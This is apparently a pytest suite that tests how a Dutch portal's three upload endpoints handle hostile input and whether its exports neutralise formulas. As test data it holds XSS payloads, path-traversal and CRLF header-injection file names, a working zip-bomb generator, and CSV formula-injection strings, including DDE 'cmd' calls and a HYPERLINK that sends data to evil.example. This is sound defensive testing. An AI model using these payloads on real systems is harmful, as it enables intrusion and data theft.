"""Every upload in the portal, tried with what an attacker or a confused user would send.

The uploads: label evidence (/label/zelfscan/<id>/vraag/<id>/bewijs, stored on disk), the partner list import
(/partners/import, rows kept in an ImportBatch) and the buyers' bulk label check (/inkoop/labelcheck/lijst,
nothing kept). Each is sent (1) a body just above MAX_CONTENT_LENGTH, (2) files whose content does not match
their name or content type, (3) malicious files: scripts, hostile file names, zip bombs, macros, formulas.
Every refusal is a Dutch message and stores nothing; no file ever lands outside UPLOAD_FOLDER.
"""
import io
import os
import re
import zipfile
from datetime import timedelta
from decimal import Decimal as D
from urllib.parse import quote

import pytest
from openpyxl import Workbook, load_workbook
from sqlalchemy import func, select

from portal import clock
from portal.extensions import db
from portal.label import assessments
from portal.label.models import EvidenceFile
from portal.partners.models import ImportBatch, Organisation
from tests.conftest import login
from tests.label.conftest import PDF, build_set

SMALL = 1024 * 1024  # MAX_CONTENT_LENGTH of the test app (MAX_UPLOAD_MB=1)

PNG = bytes.fromhex("89504e470d0a1a0a0000000d4948445200000001000000010806000000") + b"\x00" * 40
EXE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff" + b"\x00" * 200
ELF = b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 8 + b"\x02\x00\x3e\x00" + b"\x00" * 200
HTML = b"<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>"
SVG = (b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script>'
       b'<rect width="10" height="10"/></svg>')
STORED_NAME = re.compile(r"label/\d+/[0-9a-f]{32}")


def plain_zip():
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("readme.txt", "geen spreadsheet")
    return out.getvalue()


def workbook(rows, extra_members=()):
    """An XLSX with ``rows``; ``extra_members`` are (name, bytes) added to the archive."""
    book = Workbook()
    for row in rows:
        book.active.append(row)
    buffer = io.BytesIO()
    book.save(buffer)
    if not extra_members:
        return buffer.getvalue()
    source = zipfile.ZipFile(buffer)
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            target.writestr(info, source.read(info.filename))
        for name, data in extra_members:
            target.writestr(name, data)
    return out.getvalue()


def zip_bomb(rows=2_000_000):
    """A valid-looking XLSX (< 200 kB) whose sheet unpacks to about 100 MB of identical rows."""
    base = zipfile.ZipFile(io.BytesIO(workbook([["naam", "kvk", "postcode", "gemeente"]])))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for info in base.infolist():
            data = base.read(info.filename)
            if info.filename == "xl/worksheets/sheet1.xml":
                head, rest = data.split(b"<sheetData>")
                tail = rest.split(b"</sheetData>")[1]
                row = (b'<row><c t="inlineStr"><is><t>Bom BV</t></is></c>'
                       b'<c t="inlineStr"><is><t>24111111</t></is></c></row>')
                data = head + b"<sheetData>" + row * rows + b"</sheetData>" + tail
            target.writestr(info.filename, data, compress_type=zipfile.ZIP_DEFLATED, compresslevel=9)
    return out.getvalue()


# --------------------------------------------------------------------------- set-up
@pytest.fixture
def app(make_app, mailbox, tmp_path):
    """The test app with a small upload limit and its upload folder deep inside tmp_path."""
    app = make_app(MAX_CONTENT_LENGTH=SMALL, UPLOAD_FOLDER=str(tmp_path / "srv" / "uploads"))
    with app.app_context():
        yield app
        db.session.remove()


@pytest.fixture
def portal(app, make_user, make_org):
    """Logged-in clients for the three uploads and what each one stores."""
    staff = make_user("mbo_staff")
    build_set(staff)
    member = make_user("ondernemer")
    org = make_org(name="Bouwbedrijf Upload", members=[member])
    item = assessments.load(assessments.start_assessment(org, member).id)
    db.session.commit()
    criterion = item.criteria_set.themes[0].criteria[1]
    clients = {}
    for key, user in (("evidence", member), ("import", staff), ("bulk", make_user("inkoop"))):
        clients[key] = app.test_client()
        login(clients[key], user.email)
    return {"clients": clients, "item": item, "criterion": criterion, "org": org, "member": member,
            "staff": staff, "evidence_url": f"/label/zelfscan/{item.id}/vraag/{criterion.id}/bewijs"}


def send(portal, target, name, data, content_type=None, **fields):
    url = {"evidence": portal["evidence_url"], "import": "/partners/import", "bulk": "/inkoop/labelcheck/lijst"}
    upload = (io.BytesIO(data), name, content_type) if content_type else (io.BytesIO(data), name)
    return portal["clients"][target].post(url[target], data={"file": upload, **fields},
                                          content_type="multipart/form-data", follow_redirects=True)


def send_raw(portal, target, filename, data, content_type="application/octet-stream"):
    """A multipart body built by hand, so the file name reaches the server exactly as given.

    The name goes in RFC 2231 form (filename*=UTF-8''...), which can carry quotes, CR/LF, NUL and backslashes;
    the test client's own encoder would put it unescaped in a quoted string.
    """
    client = portal["clients"][target]
    url = {"evidence": portal["evidence_url"], "import": "/partners/import", "bulk": "/inkoop/labelcheck/lijst"}
    boundary = "hardening-" + os.urandom(8).hex()
    body = (f"--{boundary}\r\nContent-Disposition: form-data; name=\"csrf_token\"\r\n\r\n{client.csrf_token()}\r\n"
            f"--{boundary}\r\nContent-Disposition: form-data; name=\"file\"; "
            f"filename*=UTF-8''{quote(filename, safe='')}\r\nContent-Type: {content_type}\r\n\r\n").encode()
    body += data + f"\r\n--{boundary}--\r\n".encode()
    return client.post(url[target], data=body, content_type=f"multipart/form-data; boundary={boundary}",
                       follow_redirects=True)


def stored():
    return {"evidence": db.session.scalar(select(func.count()).select_from(EvidenceFile)),
            "batches": db.session.scalar(select(func.count()).select_from(ImportBatch))}


def files_under(root):
    return sorted(os.path.relpath(os.path.join(d, f), root) for d, _dirs, fs in os.walk(root) for f in fs)


def assert_nothing_outside_uploads(app, tmp_path):
    """Every file below tmp_path is an evidence file named by the portal inside UPLOAD_FOLDER."""
    root = os.path.realpath(app.config["UPLOAD_FOLDER"])
    for path in files_under(tmp_path):
        full = os.path.realpath(os.path.join(tmp_path, path))
        assert full.startswith(root + os.sep), f"file outside UPLOAD_FOLDER: {path}"
        assert STORED_NAME.fullmatch(os.path.relpath(full, root)), f"unexpected file name: {path}"


REFUSALS = {
    "evidence": ("kunnen we niet aannemen", "past niet bij de naam", "nemen we niet aan"),
    "import": ("kon niet als tabel worden gelezen", "geen tabel", "ontbreken", "geen rijen", "te groot", ".xls"),
    "bulk": ("kon niet worden gelezen", "CSV- of XLSX", "geen kolom met", "te groot"),
}


def assert_refused(portal, target, response, what):
    text = response.get_data(as_text=True)
    assert response.status_code in (200, 400), f"{target} {what}: {response.status_code}"
    assert any(message in text for message in REFUSALS[target]), f"{target} {what}: no refusal in\n{text[:3000]}"
    assert "Het bewijsstuk is toegevoegd." not in text and "rijen importeren" not in text
    assert "Uitkomst op" not in text, f"{target} {what}: a result was shown"


# --------------------------------------------------------------------------- (1) too large
@pytest.mark.parametrize("target", ["evidence", "import", "bulk"])
def test_a_body_above_max_content_length_is_a_dutch_413_and_stores_nothing(app, portal, tmp_path, target):
    data = PDF + b"0" * SMALL
    name = {"evidence": "groot.pdf", "import": "groot.csv", "bulk": "groot.csv"}[target]
    response = send(portal, target, name, data)
    assert response.status_code == 413
    assert response.mimetype == "text/html"
    text = response.get_data(as_text=True)
    assert 'lang="nl"' in text and "Het bestand is te groot." in text
    assert "hoogstens 1 MB" in text  # the limit is named
    assert "Traceback" not in text
    assert stored() == {"evidence": 0, "batches": 0}
    assert files_under(tmp_path) == []


def test_the_413_page_follows_the_language(app, portal):
    client = portal["clients"]["bulk"]
    client.get("/?lang=en")
    with client.session_transaction() as sess:
        sess["lang"] = "en"
    response = send(portal, "bulk", "groot.csv", b"kvk\n" + b"1" * SMALL)
    assert response.status_code == 413 and 'lang="en"' in response.get_data(as_text=True)


# --------------------------------------------------------------------------- (2) mislabelled
MISLABELLED = [
    ("rapport.pdf", EXE, None),
    ("rapport.pdf", ELF, None),
    ("rapport.pdf", plain_zip(), None),
    ("lijst.xlsx", EXE, None),
    ("lijst.xlsx", ELF, None),
    ("lijst.xlsx", plain_zip(), None),
    ("foto.png", PDF, "image/png"),
    ("lijst.csv", ELF, "text/csv"),
    ("rapport.pdf", HTML, "application/pdf"),
    ("lijst.xlsx", HTML, "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"),
    ("lijst.csv", PDF, "text/csv"),
]


@pytest.mark.parametrize("target", ["evidence", "import", "bulk"])
def test_files_whose_content_does_not_match_their_name_are_refused(app, portal, tmp_path, target):
    for name, data, content_type in MISLABELLED:
        response = send(portal, target, name, data, content_type)
        assert_refused(portal, target, response, name)
    assert stored() == {"evidence": 0, "batches": 0}
    assert files_under(tmp_path) == []


# --------------------------------------------------------------------------- (3) malicious: evidence
def test_evidence_refuses_scripts_in_svg_and_html_whatever_they_are_called(app, portal, tmp_path):
    for name, data, content_type in [("logo.svg", SVG, "image/svg+xml"), ("logo.png", SVG, "image/png"),
                                     ("pagina.html", HTML, "text/html"), ("pagina.htm", HTML, None)]:
        assert_refused(portal, "evidence", send(portal, "evidence", name, data, content_type), name)
    assert stored()["evidence"] == 0 and files_under(tmp_path) == []


def test_a_pdf_html_polyglot_is_only_ever_served_as_a_pdf_download(app, portal):
    """Content is recognised by its magic number, so a PDF header before HTML passes as a PDF. That is safe
    because evidence is never shown inline: it is an attachment of type application/pdf with nosniff."""
    send(portal, "evidence", "rapport.pdf", b"%PDF-1.4\n" + HTML, "text/html")
    evidence = db.session.scalar(select(EvidenceFile))
    response = portal["clients"]["evidence"].get(f"/label/bewijs/{evidence.id}")
    assert response.headers["Content-Type"] == "application/pdf"
    assert response.headers["Content-Disposition"].startswith("attachment;")
    assert response.headers["X-Content-Type-Options"] == "nosniff"


def test_evidence_refuses_office_files_with_macros(app, portal, tmp_path):
    macro_book = workbook([["a"]], [("xl/vbaProject.bin", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 512)])
    for name in ("begroting.xlsx", "begroting.xlsm"):
        assert_refused(portal, "evidence", send(portal, "evidence", name, macro_book), name)
    assert stored()["evidence"] == 0 and files_under(tmp_path) == []
    # The same workbook without the macro part is a normal spreadsheet.
    text = send(portal, "evidence", "begroting.xlsx", workbook([["a"]])).get_data(as_text=True)
    assert "Het bewijsstuk is toegevoegd." in text


# (given, what is stored); where the stored name is None the upload is refused.
HOSTILE_NAMES = [
    ("../../etc/passwd.pdf", "passwd.pdf"),
    ("../../../../../../tmp/evil.pdf", "evil.pdf"),
    ("/etc/passwd.pdf", "passwd.pdf"),
    ("..\\..\\Windows\\System32\\evil.pdf", "evil.pdf"),
    ("C:\\Users\\Public\\evil.pdf", "evil.pdf"),
    ("rapport\x00.pdf", "rapport.pdf"),
    ("rapport.pdf\x00.exe", None),
    ('x"; filename=evil.html\r\nX-Injected: 1.pdf', "x; filename=evil.htmlX-Injected 1.pdf"),
    ("\u202efdp.exe.pdf", "fdp.exe.pdf"),
    ("%2e%2e%2fetc%2fpasswd.pdf", "%2e%2e%2fetc%2fpasswd.pdf"),
    ("Beleid ‘inclusief werven’ – Dörpsstraat 日本語.pdf", "Beleid ‘inclusief werven’ – Dörpsstraat 日本語.pdf"),
    ("a" * 1000 + ".pdf", "a" * 196 + ".pdf"),
    ("....pdf", None),  # os.path.splitext sees no extension after leading dots
    ("..", None),
]


def test_hostile_file_names_are_cleaned_and_files_stay_inside_the_upload_folder(app, portal, tmp_path):
    for given, expected in HOSTILE_NAMES:
        response = send_raw(portal, "evidence", given, PDF, "application/pdf")
        assert response.status_code == 200, given
        text = response.get_data(as_text=True)
        if expected is None:
            assert "Het bewijsstuk is toegevoegd." not in text, given
            continue
        assert "Het bewijsstuk is toegevoegd." in text, given
        evidence = db.session.scalars(select(EvidenceFile).order_by(EvidenceFile.id.desc())).first()
        assert evidence.filename == expected, given
        assert not set(evidence.filename) & set("/\\\x00\r\n\"<>"), given
        assert STORED_NAME.fullmatch(os.path.join("label", evidence.stored_name)), evidence.stored_name
    assert_nothing_outside_uploads(app, tmp_path)
    assert len(files_under(app.config["UPLOAD_FOLDER"])) == len([n for n in HOSTILE_NAMES if n[1]])


def test_stored_evidence_is_served_back_as_an_attachment_with_safe_headers(app, portal):
    # What was accepted, with a hostile name and a content type the browser claimed.
    for name, data, claimed in [('rapport"\r\nSet-Cookie: x=1\r\n\r\n<script>.pdf', PDF, "text/html"),
                                ("Dörpsstraat 日本語.png", PNG, "image/svg+xml"),
                                ("../../begroting.xlsx", workbook([["a"]]), "text/html")]:
        text = send_raw(portal, "evidence", name, data, claimed).get_data(as_text=True)
        assert "Het bewijsstuk is toegevoegd." in text, name
    reviewer = app.test_client()
    login(reviewer, portal["staff"].email)
    items = db.session.scalars(select(EvidenceFile).order_by(EvidenceFile.id)).all()
    expected_types = ["application/pdf", "image/png",
                      "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"]
    for evidence, content_type in zip(items, expected_types, strict=True):
        for client, url in ((portal["clients"]["evidence"], f"/label/bewijs/{evidence.id}"),
                            (reviewer, f"/label/beoordeling/bewijs/{evidence.id}")):
            response = client.get(url)
            assert response.status_code == 200, url
            assert response.headers["Content-Type"] == content_type  # detected, never the browser's claim
            disposition = response.headers["Content-Disposition"]
            assert disposition.startswith("attachment;"), disposition
            assert "\r" not in disposition and "\n" not in disposition and "Set-Cookie" not in response.headers
            assert response.headers["X-Content-Type-Options"] == "nosniff"
            assert "no-store" in response.headers["Cache-Control"]
            assert "default-src 'self'" in response.headers["Content-Security-Policy"]


def test_clean_filename_keeps_the_extension_and_drops_directories_and_control_characters():
    from portal.validators import clean_filename

    assert clean_filename("..\\..\\a\\b.pdf") == "b.pdf"
    assert clean_filename("C:\\x\\y.docx") == "y.docx"
    assert clean_filename("a\x00b\r\nc\u202e.pdf") == "abc.pdf"
    assert clean_filename("b" * 300 + ".xlsx", max_length=100) == "b" * 95 + ".xlsx"
    assert clean_filename("c" * 300, max_length=100) == "c" * 100
    assert clean_filename("../", default="import") == "import"
    assert clean_filename("  ") == "bestand"


def test_evidence_with_a_tampered_stored_name_is_not_served(app, portal, tmp_path):
    secret = tmp_path / "geheim.txt"
    secret.write_text("niet voor u")
    send(portal, "evidence", "beleid.pdf", PDF)
    evidence = db.session.scalar(select(EvidenceFile))
    for tampered in ("../../../geheim.txt", str(secret), "../label/../../../geheim.txt"):
        evidence.stored_name = tampered
        db.session.commit()
        response = portal["clients"]["evidence"].get(f"/label/bewijs/{evidence.id}")
        assert response.status_code == 404, tampered
        assert b"niet voor u" not in response.data


# --------------------------------------------------------------------------- (3) malicious: spreadsheets
@pytest.mark.parametrize("target", ["import", "bulk"])
def test_an_xlsx_zip_bomb_is_refused_without_unpacking(app, portal, target, monkeypatch):
    bomb = zip_bomb()
    assert len(bomb) < SMALL
    unpacked = []
    real_read = zipfile.ZipExtFile.read

    def counting_read(self, *args, **kwargs):  # any decompression of a member is recorded
        unpacked.append(self.name)
        return real_read(self, *args, **kwargs)

    monkeypatch.setattr(zipfile.ZipExtFile, "read", counting_read)
    response = send(portal, target, "lijst.xlsx", bomb)
    assert unpacked == []  # refused from the archive's directory alone, before a byte is unpacked
    assert_refused(portal, target, response, "zip bomb")
    assert "te groot" in response.get_data(as_text=True)
    assert stored()["batches"] == 0


IMPORT_HEADER = ["naam", "kvk", "postcode", "gemeente"]


def test_macros_and_external_links_in_an_import_are_never_run_only_values_are_read(app, portal, tmp_path):
    vba = ("xl/vbaProject.bin", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 512)
    external = ("xl/externalLinks/externalLink1.xml",
                b'<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
                b'<externalBook r:id="rId1" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/'
                b'relationships"/></externalLink>')
    book = workbook([IMPORT_HEADER, ["Macro BV", "24111111", "3311 AB", "Dordrecht"],
                     ["Link BV", "24222222", "3311 AB", "='[1]Blad1'!A1"]], [vba, external])
    for name in ("partners.xlsm", "partners.xlsx"):
        response = send(portal, "import", name, book)
        assert response.status_code == 200, name
    batches = db.session.scalars(select(ImportBatch)).all()
    assert len(batches) == 2
    for batch in batches:
        assert [r["values"]["name"] for r in batch.rows] == ["Macro BV", "Link BV"]
        # The formula is not evaluated and not kept: the cell has no cached value, so it reads as empty.
        assert batch.rows[1]["values"]["municipality"] == ""
    assert files_under(tmp_path) == []  # the import keeps rows in the database, never the file
    response = send(portal, "bulk", "lijst.xlsm", workbook([["KvK"], ["24111111"]], [vba]))
    assert "Uitkomst op" in response.get_data(as_text=True)


def test_hostile_import_file_names_are_kept_as_harmless_text(app, portal, tmp_path):
    csv = b"naam;kvk;postcode;gemeente\nNaam BV;24111111;3311 AB;Dordrecht\n"
    for given in ("../../etc/passwd.csv", "/var/x.csv", "lijst\x00.csv", "<script>alert(1)</script>.csv",
                  "x" * 600 + ".csv", "Dörpsstraat 日本語.csv", "..\\..\\boot.ini.csv"):
        response = send_raw(portal, "import", given, csv, "text/csv")
        assert response.status_code == 200, given
        assert "<script>alert(1)</script>" not in response.get_data(as_text=True)
    names = [b.filename for b in db.session.scalars(select(ImportBatch).order_by(ImportBatch.id))]
    assert names[:3] == ["passwd.csv", "x.csv", "lijst.csv"]
    assert names[3] == "script.csv"  # "</" is a directory separator
    assert names[4].endswith(".csv") and len(names[4]) <= 255 and names[5] == "Dörpsstraat 日本語.csv"
    assert names[6] == "boot.ini.csv"
    assert all("\x00" not in n and "/" not in n for n in names)
    assert files_under(tmp_path) == []


# --------------------------------------------------------------------------- (3) formulas in, files out
FORMULAS = {
    "name": '=HYPERLINK("http://evil.example/?d="&A1,"Klik hier")',
    "street": "+cmd|' /C calc'!A0",
    "city": "@SUM(1+1)*cmd|' /C calc'!A0",
    "contact_name": "-2+3+cmd|' /C calc'!A0",
}


def formula_csv():
    header = "naam;kvk;straat;postcode;plaats;gemeente;contactpersoon\n"
    name = FORMULAS["name"].replace('"', '""')
    row = (f'"{name}";24999999;"{FORMULAS["street"]}";3311 AB;'
           f'"{FORMULAS["city"]}";Dordrecht;"{FORMULAS["contact_name"]}"\n')
    return (header + row).encode("utf-8")


def dangerous(value) -> bool:
    return isinstance(value, str) and value[:1] in ("=", "+", "-", "@")


def assert_no_formulas(xlsx: bytes, where: str):
    book = load_workbook(io.BytesIO(xlsx))
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{where}: formula in {sheet.title}!{cell.coordinate}: {cell.value}"
                assert not dangerous(cell.value), f"{where}: {sheet.title}!{cell.coordinate} = {cell.value!r}"


def test_formulas_in_an_imported_list_are_neutralised_in_every_export(app, portal, make_user):
    from tests.inkoop.helpers import make_procedure, open_with_bids

    staff_client = portal["clients"]["import"]
    response = send(portal, "import", "partners.csv", formula_csv())
    batch = db.session.scalar(select(ImportBatch))
    assert batch is not None and len(batch.valid_rows) == 1, response.get_data(as_text=True)[:2000]
    assert staff_client.post(f"/partners/import/{batch.id}", data={}).status_code == 302
    org = db.session.scalar(select(Organisation).where(Organisation.kvk == "24999999"))
    # Stored as given: the portal shows it as text (HTML escapes it), only spreadsheets would run it.
    assert org.name == FORMULAS["name"] and org.street == FORMULAS["street"]

    # Partner export, CSV: every dangerous cell starts with an apostrophe.
    export = staff_client.get("/partners/export.csv")
    assert export.status_code == 200
    text = export.data.decode("utf-8-sig")
    for value in FORMULAS.values():
        assert "'" + value.replace('"', '""') in text or "'" + value in text, value
    for line in text.splitlines()[1:]:
        for cell in line.split(";"):
            assert not dangerous(cell.strip('"')), cell
    # Partner export, XLSX.
    export = staff_client.get("/partners/export.xlsx")
    assert_no_formulas(export.data, "partners export")

    # Bulk label check download: the given values and the organisation's name.
    buyer = portal["clients"]["bulk"]
    download = buyer.post("/inkoop/labelcheck/lijst.xlsx",
                          data={"kvk": ["24999999", '=HYPERLINK("http://evil.example","x")', "@SUM(A1)"],
                                "op": clock.today().isoformat()})
    assert download.status_code == 200
    assert_no_formulas(download.data, "bulk label check")

    # Evaluation report of a procedure the imported organisation bid on.
    inkoop = make_user("inkoop")
    procedure = make_procedure(inkoop, title="=1+1", closing_date=clock.today() + timedelta(days=10))
    open_with_bids(procedure, inkoop, [(org, D("1000"), {})])
    procedure.status = "gegund"  # the report is open to every buyer once decided; how it got there is not the point
    db.session.commit()
    client = app.test_client()
    login(client, inkoop.email)
    report = client.get(f"/inkoop/procedures/{procedure.id}/rapport.xlsx")
    assert report.status_code == 200
    assert_no_formulas(report.data, "evaluation report")
